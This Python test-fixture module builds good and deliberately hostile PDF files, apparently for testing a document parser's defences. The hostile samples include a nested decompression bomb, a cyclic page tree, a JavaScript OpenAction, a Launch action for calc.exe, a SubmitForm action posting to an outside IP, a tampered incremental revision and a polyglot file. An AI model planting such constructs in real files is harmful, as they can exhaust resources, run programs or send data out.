"""Makers of PDF files: good ones by a PDF writer, bad ones object by object."""

from __future__ import annotations

import io
import zlib
from typing import TYPE_CHECKING

from pypdf import PdfWriter
from reportlab.lib.styles import ParagraphStyle
from reportlab.lib.utils import ImageReader
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas
from reportlab.platypus import Paragraph, SimpleDocTemplate

if TYPE_CHECKING:
    from collections.abc import Callable

WORDS = "Farid Qorel was sentenced to three years in prison on 4 May 2024."


def drawn(
    *pages: Callable[[Canvas], object], size: tuple[float, float] = (595, 842), **more: object
) -> bytes:
    """A file whose pages are drawn one by one."""
    made = io.BytesIO()
    canvas = Canvas(made, pagesize=size, **more)  # type: ignore[arg-type]
    for page in pages:
        canvas.setPageSize(size)
        page(canvas)
        canvas.showPage()
    canvas.save()
    return made.getvalue()


def paragraphs(*words: str, chinese: bool = False) -> bytes:
    """A file that a typesetter made."""
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    style = ParagraphStyle(
        "body", fontName="STSong-Light" if chinese else "Helvetica", fontSize=11, leading=15,
        spaceAfter=18, wordWrap="CJK" if chinese else None,
    )  # fmt: skip
    made = io.BytesIO()
    SimpleDocTemplate(made).build([Paragraph(one, style) for one in words])
    return made.getvalue()


def line(words: str, x: float = 72, y: float = 700) -> Callable[[Canvas], object]:
    """A page with one line."""
    return lambda canvas: canvas.drawString(x, y, words)


def picture(width: int = 600, height: int = 800) -> ImageReader:
    """A grey picture, as a scanner gives one."""
    from PIL import Image

    return ImageReader(Image.new("L", (width, height), 230))


def built(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A file of these objects, with a table that is right."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    at = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
        )
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, at)
    return bytes(out)


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), more) + content + b"\nendstream"


def page_of(contents: bytes, *, more: bytes = b"", box: bytes = b"0 0 595 842") -> dict[int, bytes]:
    """The objects of a file of one page."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % more,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>" % box,
        4: contents,
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def text_stream(words: str = WORDS) -> bytes:
    return stream(b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % words.encode())


def c01_bomb() -> bytes:
    once = zlib.compressobj(9)
    inner = b"".join(once.compress(b" " * (1 << 20)) for _ in range(460)) + once.flush()
    return built(page_of(stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")))


def c02_cycle() -> bytes:
    objects = page_of(text_stream())
    objects[2] = b"<< /Type /Pages /Kids [2 0 R] /Count 99999999 >>"
    return built(objects)


def c03_many_kids() -> bytes:
    objects = page_of(text_stream())
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"3 0 R " * 1_000_000)
    return built(objects)


def many_pages() -> bytes:
    objects = page_of(text_stream())
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count 2500 >>" % (b"3 0 R " * 2500)
    return built(objects)


def c06_active() -> bytes:
    more = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objects = page_of(text_stream(), more=more)
    objects[3] = objects[3][:-2] + (
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"
        b" << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://198.51.100.7/) >> >>] >>"
    )
    writer = PdfWriter(clone_from=io.BytesIO(built(objects)))
    writer.add_attachment("order.txt", b"Lena Sorvik was arrested on 3 March 2024.")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def c07_cut() -> bytes:
    whole = drawn(line(WORDS), line(WORDS))
    return whole[: len(whole) // 2]


def c08_lost_key() -> bytes:
    return built(page_of(text_stream()), b"/Root 1 0 R /Encrypt 99 0 R")


def c08_password() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(drawn(line(WORDS))))
    writer.encrypt("open sesame", algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def c08_owner_password() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(drawn(line(WORDS))))
    writer.encrypt("", "owner", algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def scanned(canvas: Canvas) -> None:
    """A page that is a picture; a small one, since each is looked through for letters."""
    canvas.setPageSize((149, 210))
    canvas.drawImage(picture(), 0, 0, 149, 210)


def c09_scan() -> bytes:
    return drawn(scanned, scanned, scanned)


def c10_vast_page() -> bytes:
    objects = page_of(text_stream(), box=b"0 0 14400 14400")
    objects[3] = objects[3].replace(b"/Resources <<", b"/Resources << /XObject << /I 6 0 R >>")
    objects[4] = stream(
        b"q 14400 0 0 14400 0 0 cm /I Do Q BT /F1 12 Tf 72 700 Td (%s) Tj ET" % WORDS.encode()
    )
    objects[6] = stream(
        b"\x00\x00\x00\x0cjP  \r\n\x87\n",
        b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /Filter /JPXDecode",
    )
    return built(objects)


def c12_revised() -> bytes:
    first = built(page_of(text_stream("He was acquitted.")))
    at = len(first)
    changed = b"4 0 obj\n" + text_stream("He was convicted.") + b"\nendobj\n"
    table = b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + changed + table % (at, first.rindex(b"xref\n0"), at + len(changed))


def c13_polyglot() -> bytes:
    from .hostile_files import zipped

    return built(page_of(text_stream())).replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html>\n", 1) + zipped(
        {"a.txt": b"x"}
    )


def c14_late_header() -> bytes:
    return b" " * 900 + built(page_of(text_stream()))
